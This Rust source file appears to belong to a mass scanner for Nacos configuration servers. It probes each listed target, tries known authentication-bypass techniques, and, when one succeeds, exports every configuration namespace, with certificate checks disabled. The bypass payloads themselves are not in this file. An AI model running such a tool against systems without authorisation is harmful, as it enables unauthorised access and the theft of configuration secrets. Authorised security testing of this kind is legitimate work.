use crate::auth_check::{AuthChecker, BypassTechnique};
use crate::config::Config;
use crate::export::ConfigExporter;
use crate::probe;
use crate::types::Target;
use crate::{Result, ScanError};
use log::{info, warn};
use reqwest::{Client, Proxy};
use std::path::{Path, PathBuf};
use tokio::fs;

/// Terminal state of one target's scan pass.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScanOutcome {
    /// Console state probe failed; no further requests were issued.
    Unreachable,
    /// Reachable, but none of the known bypass techniques worked.
    NotVulnerable,
    /// Bypass confirmed and all namespaces walked.
    Exported {
        technique: BypassTechnique,
        output_dir: PathBuf,
    },
    /// Bypass confirmed but the namespace listing failed; nothing written.
    ExportAborted { technique: BypassTechnique },
}

/// Sequences reachability probe, bypass checks and config export for one
/// target at a time.
pub struct NacosScanner {
    config: Config,
}

impl NacosScanner {
    pub fn new(config: Config) -> Self {
        Self { config }
    }

    /// One HTTP session per target pass, never shared across targets.
    fn build_client(&self) -> Result<Client> {
        let mut builder = Client::builder()
            .timeout(self.config.request_timeout())
            .danger_accept_invalid_certs(true)
            .user_agent(&self.config.scan.user_agent);

        if let Some(proxy) = &self.config.scan.proxy {
            builder = builder.proxy(Proxy::all(proxy)?);
        }

        Ok(builder.build()?)
    }

    /// Run the full state machine for a single raw target string:
    /// `Unchecked -> Reachable|Unreachable`,
    /// `Reachable -> Vulnerable|NotVulnerable`,
    /// `Vulnerable -> Exported|ExportAborted`.
    pub async fn scan_target(&self, raw: &str) -> Result<ScanOutcome> {
        let target = Target::parse(raw)?;
        let client = self.build_client()?;

        if !probe::console_reachable(&client, &target).await {
            return Ok(ScanOutcome::Unreachable);
        }

        let technique = match AuthChecker::new(&client, &target).run().await {
            Some(technique) => technique,
            None => return Ok(ScanOutcome::NotVulnerable),
        };

        info!("{} is vulnerable: {}", target, technique);

        let exporter = ConfigExporter::new(
            &client,
            &target,
            technique.credential(),
            self.config.export.output_dir.clone(),
        );

        match exporter.export_all().await {
            Ok(output_dir) => Ok(ScanOutcome::Exported {
                technique,
                output_dir,
            }),
            Err(e) => {
                warn!("export aborted for {}: {}", target, e);
                Ok(ScanOutcome::ExportAborted { technique })
            }
        }
    }
}

/// Load a newline-delimited target list. Blank lines and `#` comments
/// are skipped.
pub async fn load_targets(path: &Path) -> Result<Vec<String>> {
    if !path.exists() {
        return Err(ScanError::Unknown(format!(
            "Target file not found: {}",
            path.display()
        )));
    }

    let content = fs::read_to_string(path)
        .await
        .map_err(|e| ScanError::Unknown(format!("Failed to read target file: {}", e)))?;

    let targets: Vec<String> = content
        .lines()
        .map(|line| line.trim().to_string())
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .collect();

    info!("Loaded {} target(s) from {}", targets.len(), path.display());
    Ok(targets)
}
